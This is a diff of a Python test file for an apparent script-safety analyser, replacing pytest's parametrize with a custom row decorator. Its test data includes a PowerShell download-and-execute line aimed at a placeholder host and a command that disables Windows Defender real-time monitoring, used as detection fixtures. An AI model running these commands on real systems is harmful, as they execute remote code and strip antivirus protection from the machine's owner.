@@ -1,6 +1,7 @@
 """PowerShell, `cmd`, AppleScript, Perl, Ruby and PHP, as far as patterns go."""
 
 import pytest
+from tests.rows import each_row
 
 from prowess.safety.facts import Act, Reading
 from prowess.safety.languages.powershell import read_powershell, read_script
@@ -13,7 +14,7 @@ def flows(reading: Reading, act: Act) -> list[frozenset[str]]:
     return [fact.flow for fact in reading.facts if fact.act is act]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         f"iex (irm {HOST}/x.ps1)",
@@ -37,7 +38,7 @@ def test_a_download_alone_is_not_run(text: str) -> None:
     assert not flows(read_powershell(View.raw("x", text)), Act.EXEC)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "act", "subject"),
     [
         ("Set-MpPreference -DisableRealtimeMonitoring $true", Act.DISABLE, "defender"),
